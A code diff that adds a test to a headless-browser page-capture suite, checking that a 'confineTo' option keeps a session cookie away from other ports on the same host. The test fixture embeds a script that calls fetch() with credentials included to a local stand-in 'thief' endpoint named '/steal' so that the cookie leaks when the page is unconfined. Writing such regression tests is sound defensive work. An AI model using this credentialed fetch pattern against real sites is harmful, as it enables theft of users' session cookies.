@@ -144,6 +144,27 @@ describe('capturePage', () => {
     assert.ok(app.seen.slice(before2).some((s) => s.path === '/api/secret'));
     assert.equal(sockets, socketsBefore + 1);
   });
+
+  test('confineTo keeps the session away from other ports of the host and from local addresses', async () => {
+    // Cookies ignore ports: an app backend on another loopback port would receive the owner's session.
+    const thief = await serve({ '/steal': slow(0, 'ok'), '/meta': slow(0, 'ok') });
+    const port = new URL(thief.url).port;
+    const page = await serve({
+      '/apps/x/': html(`<script>fetch('${thief.url}/steal', { credentials: 'include', mode: 'no-cors' });
+        fetch('http://localhost:${port}/meta', { mode: 'no-cors' });</script>`),
+    });
+    try {
+      const cookies = [{ name: 'gantry_session', value: 's3cret' }];
+      await browser.capturePage({ url: `${page.url}/apps/x/`, cookies, confineTo: `${page.url}/apps/x/` });
+      assert.equal(thief.seen.length, 0, 'nothing reached the other port');
+      // Control: unconfined, both requests arrive and the first carries the session.
+      await browser.capturePage({ url: `${page.url}/apps/x/`, cookies });
+      assert.deepEqual(thief.seen.map((s) => s.path).sort(), ['/meta', '/steal']);
+      assert.equal(thief.seen.find((s) => s.path === '/steal')?.cookie, 'gantry_session=s3cret');
+    } finally {
+      await Promise.all([thief.close(), page.close()]);
+    }
+  });
 });
 
 describe('Browser lifecycle', () => {
